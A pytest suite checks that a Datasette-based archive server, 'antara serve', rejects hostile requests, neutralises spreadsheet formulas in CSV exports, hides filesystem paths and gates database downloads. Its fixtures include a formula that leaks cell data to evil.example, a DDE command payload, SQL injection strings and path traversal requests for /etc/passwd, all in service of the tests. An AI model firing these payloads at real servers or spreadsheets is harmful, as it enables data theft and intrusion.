"""``antara serve`` is safe to publish: hostile requests get a 4xx, CSV downloads neutralise formula
cells, the file is not downloadable unless asked, no filesystem path is shown, ``--public`` headers.

A real Datasette in-process (``build_datasette``, as ``antara serve`` builds it) for page content,
and real ``antara serve`` subprocesses where the command line matters.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import socket
import sqlite3
import sys
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from datasette.utils import tilde_encode

from archive.export import neutralise
from crawler.serve.app import build_datasette
from crawler.serve.mode import choose_mode
from tests.conftest import ROOT, RunningSite, crawl_sample, run_cli, serve_archive

pytestmark = pytest.mark.slow  # every test reads an archive built by a crawl

#: What the spreadsheet-injection article carries, column by column (OWASP's examples and the issue's).
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Klik di sini")',
    "reporter": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary": "-2+3",
    "category": "+cmd",
    "editor": "\t=1+1",
}
TAG_FORMULA = "=1+1"


@pytest.fixture(scope="module")
def archive(sample_site: RunningSite, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A crawled archive whose newest kalteng article (and one of its tags) holds formula-looking text."""
    db = tmp_path_factory.mktemp("safety") / "archive.db"
    result = crawl_sample(sample_site, db, "--region", "kalteng,kalsel", "-q")
    assert result.returncode == 0, result.stderr[-3000:]
    conn = sqlite3.connect(db)
    try:
        url = conn.execute(
            "SELECT url FROM articles WHERE region = 'kalteng' ORDER BY published_at DESC LIMIT 1"
        ).fetchone()[0]
        sets = ", ".join(f"{column} = ?" for column in FORMULAS)
        conn.execute(f"UPDATE articles SET {sets} WHERE url = ?", [*FORMULAS.values(), url])
        tag_id = conn.execute("SELECT tag_id FROM article_tags WHERE article_url = ? LIMIT 1", (url,)).fetchone()[0]
        conn.execute("UPDATE tags SET name = ? WHERE id = ?", (TAG_FORMULA, tag_id))
        conn.commit()
    finally:
        conn.close()
    return db


def formula_url(db: Path) -> str:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return str(conn.execute("SELECT url FROM articles WHERE title = ?", (FORMULAS["title"],)).fetchone()[0])
    finally:
        conn.close()


def fetch(db: Path, *requests: str, **options: Any) -> list[httpx.Response]:
    """Each ``"METHOD /path"`` (or ``"/path"``, a GET) from a Datasette built as ``antara serve`` builds it."""

    async def run() -> list[httpx.Response]:
        mode = choose_mode(db, "immutable" if options.pop("immutable", False) else "auto")
        ds = build_datasette(db, immutable=mode.immutable, **options)
        await ds.invoke_startup()
        out = []
        for request in requests:
            method, _, path = request.rpartition(" ")
            out.append(await ds.client.request(method or "GET", path))
        return out

    return asyncio.run(run())


def leaks(db: Path, response: httpx.Response) -> list[str]:
    """The filesystem paths (the archive's, its folder, the project's, Python's) in a response."""
    shown = response.text + "\n" + "\n".join(f"{k}: {v}" for k, v in response.headers.items())
    places = {str(db.resolve()), str(db.resolve().parent), str(ROOT), sys.prefix, sys.base_prefix, "site-packages"}
    return sorted(place for place in places if place in shown)


def error_message(response: httpx.Response) -> str:
    """The message of Datasette's error page, HTML or JSON."""
    if response.headers["content-type"].startswith("application/json"):
        return str(response.json()["error"])
    match = re.search(r'<p class="antara-error-detail">(.*?)</p>', response.text, re.S)
    assert match, response.text[:1000]
    return match.group(1).strip()


# -- hostile requests ----------------------------------------------------------------------------

#: (request, status, words of the message). The first group answered 500 in Datasette 0.65.5.
HOSTILE = [
    ("/archive/articles?_sort=nosuchcol", 400, "Cannot sort table by nosuchcol"),
    ("/archive/articles?_sort_desc=title;%20drop%20table%20x", 400, "Cannot sort table by title; drop table x"),
    ("/archive/articles.json?_sort=nosuchcol", 400, "Cannot sort table by nosuchcol"),
    ("/archive/articles.csv?_sort=rowid", 400, "Cannot sort table by rowid"),
    ("/archive/articles?_sort=title&_sort_desc=title", 400, "Cannot use _sort and _sort_desc at the same time"),
    ("/archive/articles?article_id__in=[1,", 400, "?article_id__in=[1, is not valid JSON"),
    ("/archive/articles.json?article_id__notin=[1,", 400, "takes a JSON list such as [1, 2]"),
    ("/archive/articles?_through={bad", 400, "?_through= takes a JSON object"),
    (
        '/archive/articles?_through={"table":"x","column":"y","value":"z"}',
        400,
        "Invalid _through - could not find corresponding foreign key",
    ),
    ("/archive/articles?_timelimit=abc", 400, "?_timelimit= must be a whole number of milliseconds"),
    ("/archive.csv", 400, "The database&#39;s CSV is the CSV of a query given as ?sql="),
    ("POST /archive/latest_in_region", 405, "POST is not allowed here: the archive is read-only"),
    ("POST /archive/articles", 405, "POST is not allowed here"),
    ("POST /archive/articles.json", 405, "POST is not allowed here"),
    ("DELETE /archive/articles", 405, "DELETE is not allowed here"),
    ("PROPFIND /", 405, "PROPFIND is not allowed here"),
    ("/-/threads.json", 404, "This page is not served by antara serve"),
    # already a 4xx in Datasette 0.65.5: kept so
    ("/archive/articles?_where=1=1", 403, "_where= is not allowed"),
    ("/archive/articles?_where=1=1)%20union%20select%20*%20from%20sqlite_master--", 403, "_where= is not allowed"),
    ("/archive.json?sql=select%20*%20from%20articles", 403, "execute-sql"),
    ("/archive/articles?_size=100000000", 400, "_size must be &lt;= 1000"),
    ("/archive/articles?_size=-1", 400, "_size must be a positive integer"),
    ("/archive/articles?_facet=nosuchcol", 400, "no such column: nosuchcol"),
    ("/archive/articles?_col=nosuch", 400, "_col=nosuch - invalid columns"),
    ("/archive/articles?_search=%22", 400, "fts5: syntax error"),
    ("/archive/articles.json?_shape=nosuch", 400, "Invalid _shape: nosuch"),
    ("/archive/nosuch", 404, "Table not found"),
    ("/archive/articles/nosuch", 404, "Record not found"),
    ("/archive.db", 403, "Database download is forbidden"),
    ("/-/static/../../etc/passwd", 404, ""),
    ("/-/static/..%2F..%2F..%2Fetc%2Fpasswd", 404, ""),
    ("/antara-static/../../../etc/passwd", 404, ""),
    ("/antara-static/..%2F..%2Fmetadata.yml", 404, ""),
    ("/antara-static/%2e%2e/%2e%2e/metadata.yml", 404, ""),
    ("/-/static-plugins/datasette_vega/..%2F..%2F__init__.py", 404, ""),
    ("/_internal/databases.json", 403, "You do not have permission to view this table"),
    ("/archive/archive_meta.json", 403, "You do not have permission to view this table"),  # holds a path
]


def test_hostile_requests_get_a_4xx_with_a_readable_message(archive: Path) -> None:
    responses = fetch(archive, *(request for request, _, _ in HOSTILE))
    answered = [(request, response.status_code) for (request, _, _), response in zip(HOSTILE, responses, strict=True)]
    assert answered == [(request, status) for request, status, _ in HOSTILE]
    for (request, _, words), response in zip(HOSTILE, responses, strict=True):
        assert not leaks(archive, response), request
        if words:
            assert words in error_message(response), (request, error_message(response))
    allowed = {r.headers.get("allow") for (req, status, _), r in zip(HOSTILE, responses, strict=True) if status == 405}
    assert allowed == {"GET, HEAD, OPTIONS"}
    # the 405 comes before Datasette: the canned query did not run
    by_request = {request: response for (request, _, _), response in zip(HOSTILE, responses, strict=True)}
    assert "published_at" not in by_request["POST /archive/latest_in_region"].text


def test_reading_requests_still_work(archive: Path) -> None:
    url = formula_url(archive)
    responses = fetch(
        archive,
        "/archive/articles?_sort=published_at",
        "/archive/articles.json?_sort_desc=title&_size=1",
        "/archive/articles.json?region__in=kalteng,kalsel&_size=1",
        '/archive/articles.json?region__in=["kalteng"]&_size=1&_shape=array',
        "/archive/articles?_timelimit=2000",
        "/archive/articles?_size=max",
        "HEAD /archive/articles",
        "OPTIONS /archive/articles",
        f"/archive/articles/{tilde_encode(url)}",
        "/archive/latest_in_region?region=kalteng",
        "/-/databases.json",
        "/robots.txt",
    )
    assert [r.status_code for r in responses] == [200] * len(responses)
    assert responses[3].json()[0]["region"] == "kalteng"
    assert responses[-1].text == "User-agent: *\nDisallow: /"


# -- CSV ---------------------------------------------------------------------------------------------


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text[:500]
    return list(csv.DictReader(io.StringIO(response.text)))


def test_csv_downloads_neutralise_formula_cells(archive: Path) -> None:
    url = formula_url(archive)
    columns = "&".join(f"_col={c}" for c in [*FORMULAS, "word_count"])
    table, streamed, download, query, row, labels = fetch(
        archive,
        f"/archive/articles.csv?region=kalteng&_sort_desc=published_at&{columns}",
        f"/archive/articles.csv?_stream=1&{columns}",
        f"/archive/articles.csv?_dl=1&url={quote(url)}&{columns}",
        "/archive/latest_in_region.csv?region=kalteng",
        f"/archive/articles/{tilde_encode(url)}.csv",
        f"/archive/article_tags.csv?_labels=on&article_url={quote(url)}",
    )
    assert download.headers["content-disposition"] == 'attachment; filename="articles.csv"'
    for response in (table, streamed, download, query, row):
        rows = read_csv(response)
        (hit,) = [r for r in rows if r["url"] == url]
        for column, formula in FORMULAS.items():
            if column in hit:
                assert hit[column] == "'" + formula == neutralise(formula), (response.url, column)
        # every other cell is as stored: only formula-looking text changes
        for other in rows:
            if other is not hit:
                assert not any(value.startswith("'") for value in other.values()), other
        if "word_count" in hit:
            assert hit["word_count"].isdigit()
    assert len(read_csv(streamed)) > 100  # _stream=1 pages through the whole table
    assert "reporter" in read_csv(query)[0] and len(read_csv(query)) > 1
    tags = read_csv(labels)
    assert {t["tag_id_label"] for t in tags} >= {"'" + TAG_FORMULA}
    assert {t["article_url_label"] for t in tags} == {"'" + FORMULAS["title"]}


def test_csv_of_custom_sql_neutralises_text_and_keeps_numbers(archive: Path) -> None:
    sql = quote("select '=1+1' as formula, '-2' as text, -2 as number, -2.5 as real, 'ok' as plain")
    (response,) = fetch(archive, f"/archive.csv?sql={sql}", allow_sql=True)
    assert response.text.splitlines() == ["formula,text,number,real,plain", "'=1+1,'-2,-2,-2.5,ok"]
    (refused,) = fetch(archive, f"/archive.csv?sql={sql}")
    assert refused.status_code == 403


# -- no filesystem path ------------------------------------------------------------------------------


def test_no_filesystem_path_on_any_page(archive: Path) -> None:
    pages = [
        "/",
        "/archive",
        "/archive.json",
        "/-/databases",
        "/-/databases.json",
        "/-/metadata",
        "/-/metadata.json",
        "/-/versions.json",
        "/-/plugins.json?all=1",
        "/-/settings.json",
        "/-/actor.json",
        "/-/threads",
        "/nosuchdb",
        "/archive/articles?_sort=nosuchcol",
    ]
    for immutable in (False, True):
        (index,) = fetch(archive, "/archive.json", immutable=immutable)
        tables = [t["name"] for t in index.json()["tables"]]
        queries = [q["name"] for q in index.json()["queries"]]
        assert "articles" in tables and "latest_in_region" in queries and "archive_meta" not in tables
        every = [*pages, *(f"/archive/{t}" for t in tables), *(f"/archive/{t}.json" for t in tables)]
        every += [f"/archive/{q}" for q in queries]
        responses = fetch(archive, *every, immutable=immutable)
        answered = list(zip(every, responses, strict=True))
        assert [(p, r.status_code) for p, r in answered if r.status_code >= 500] == []
        assert [(p, leaks(archive, r)) for p, r in answered if leaks(archive, r)] == []
    databases = fetch(archive, "/-/databases.json")[0].json()
    assert [d["name"] for d in databases] == ["archive"] and "path" not in databases[0]


# -- the file itself ---------------------------------------------------------------------------------


def test_the_file_downloads_only_when_asked(archive: Path) -> None:
    (live,) = fetch(archive, "/archive.db")
    (immutable,) = fetch(archive, "/archive.db", immutable=True)
    assert (live.status_code, immutable.status_code) == (403, 403)
    page, download = fetch(archive, "/archive", "/archive.db", immutable=True, allow_download=True)
    assert download.status_code == 200 and download.content == archive.read_bytes()
    assert 'href="/archive.db"' in page.text
    (page,) = fetch(archive, "/archive", immutable=True)
    assert 'href="/archive.db"' not in page.text


# -- antara serve: the command line ------------------------------------------------------------------


def raw_get(base_url: str, path: str) -> tuple[int, bytes]:
    """GET ``path`` sent byte for byte (an HTTP client would resolve its ``..``): status and body."""
    host, port = base_url.removeprefix("http://").rstrip("/").rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), body


TRAVERSALS = [
    "/-/static/../../../../../../etc/passwd",
    "/-/static/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/antara-static/../metadata.yml",
    "/antara-static/%2e%2e/metadata.yml",
    "/antara-static/..%2fmetadata.yml",
    "/antara-static/....//metadata.yml",
    "/-/static-plugins/datasette_vega/../../../../../../etc/passwd",
]


def test_serve_without_flags_refuses_the_file_and_writes(archive: Path, tmp_path: Path) -> None:
    with serve_archive(archive, tmp_path) as server:
        for path in TRAVERSALS:
            status, body = raw_get(server.url, path)
            assert status == 404 and b"root:" not in body and b"allow_sql" not in body, path
        with httpx.Client(base_url=server.url, timeout=10) as client:
            assert client.get("/archive.db").status_code == 403
            # a real POST, JSON (no CSRF token needed) and a form (no CSRF cookie): 405 either way
            for post in (
                client.post("/archive/latest_in_region", json={"region": "kalteng"}),
                client.post("/archive/latest_in_region", data={"region": "kalteng"}),
            ):
                assert post.status_code == 405 and "the archive is read-only" in post.text
            page = client.get("/archive/articles")
            assert page.status_code == 200 and "x-robots-tag" not in page.headers
            assert page.headers["cache-control"] == "max-age=5"
            assert client.get("/robots.txt").text == "User-agent: *\nDisallow: /"
            assert client.get("/archive/articles?_sort=nosuchcol").status_code == 400
            text = client.get("/archive/latest_in_region.csv?region=kalteng").text
            assert "'" + FORMULAS["summary"] in text
    result = run_cli("serve", "--db", str(archive), "--port", "0", "--allow-download", timeout=60)
    assert result.returncode == 2
    assert result.stderr.startswith("antara: error: --allow-download needs --mode immutable")
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr


def test_serve_public_with_download(archive: Path, tmp_path: Path) -> None:
    args = ("--mode", "immutable", "--allow-download", "--public")
    with serve_archive(archive, tmp_path, *args) as server:
        assert server.mode_line.startswith(f"Serving {archive} read-only, immutable mode")
        with httpx.Client(base_url=server.url, timeout=10) as client:
            download = client.get("/archive.db")
            assert download.status_code == 200 and download.content == archive.read_bytes()
            for path in ("/", "/archive", "/archive/articles", "/archive/articles.json", "/antara-static/antara.css"):
                response = client.get(path)
                assert response.status_code == 200, path
                assert response.headers["cache-control"] == "public, max-age=60", path
                assert response.headers["x-robots-tag"] == "noindex, nofollow", path
            # Datasette's own choices are kept: ?_ttl=0, a personalised response, an error
            assert client.get("/archive/articles?_ttl=0").headers["cache-control"] == "no-cache"
            personal = client.get("/archive/articles", headers={"cookie": "x=1"})
            assert personal.headers["cache-control"] == "private, no-store"
            missing = client.get("/archive/nosuch")
            assert missing.status_code == 404 and "cache-control" not in missing.headers
            assert missing.headers["x-robots-tag"] == "noindex, nofollow"
            assert client.get("/robots.txt").text == "User-agent: *\nDisallow: /"
